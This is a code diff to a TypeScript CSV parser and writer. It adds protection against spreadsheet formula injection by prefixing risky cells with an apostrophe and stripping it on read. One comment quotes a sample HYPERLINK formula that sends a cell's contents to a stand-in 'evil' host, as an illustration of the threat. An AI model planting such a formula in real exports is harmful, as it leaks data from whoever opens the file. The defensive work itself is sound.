@@ -1,7 +1,8 @@
 /**
  * CSV as spreadsheets write it (RFC 4180): UTF-8 with or without a BOM, `;` (Excel in Uzbek and Russian
  * locales) or `,` as the separator — whichever the header line uses outside quotes — fields in double
- * quotes may hold separators, quotes ("") and line breaks; CRLF or LF.
+ * quotes may hold separators, quotes ("") and line breaks; CRLF or LF. Cells we write are neutralised
+ * against formulas (neutraliseCell), and read back as they were (restoreCell).
  */
 
 export interface CsvRecord {
@@ -94,11 +95,27 @@ export function parseCsv(text: string, separator: ';' | ','): CsvRecord[] {
   return records;
 }
 
-/** One CSV line: cells quoted when they hold the separator, a quote, a line break or leading/trailing spaces. */
+/**
+ * A cell Excel or LibreOffice would run as a formula starts with `=`, `+`, `-` or `@` (a tab or carriage
+ * return first hides one): a product named `=HYPERLINK("http://evil/?d="&B3,"Ochish")` would run on the
+ * desk of whoever opens the export. Such a cell is written with a `'` first, which a spreadsheet shows as
+ * text. A value that itself starts with apostrophes and then one of those gets one more, so that
+ * restoreCell, which takes exactly one off, gives every value back as it was ("'=x" → "''=x" → "'=x").
+ */
+const FORMULA_START = /^'*[=+\-@\t\r]/;
+const NEUTRALISED = /^'+[=+\-@\t\r]/;
+export const neutraliseCell = (value: string): string => (FORMULA_START.test(value) ? `'${value}` : value);
+/** The value neutraliseCell was given: one `'` off when apostrophes then a formula's first character start it. */
+export const restoreCell = (cell: string): string => (NEUTRALISED.test(cell) ? cell.slice(1) : cell);
+
+/**
+ * One CSV line: every cell neutralised (a negative number too: "-5" → "'-5"), then quoted when it holds
+ * the separator, a quote, a line break or leading/trailing spaces.
+ */
 export function csvLine(cells: ReadonlyArray<string | number | null>, separator: ';' | ','): string {
   return cells
     .map((c) => {
-      const s = c === null ? '' : String(c);
+      const s = neutraliseCell(c === null ? '' : String(c));
       return /["\r\n]/.test(s) || s.includes(separator) || s !== s.trim() ? `"${s.replace(/"/g, '""')}"` : s;
     })
     .join(separator);
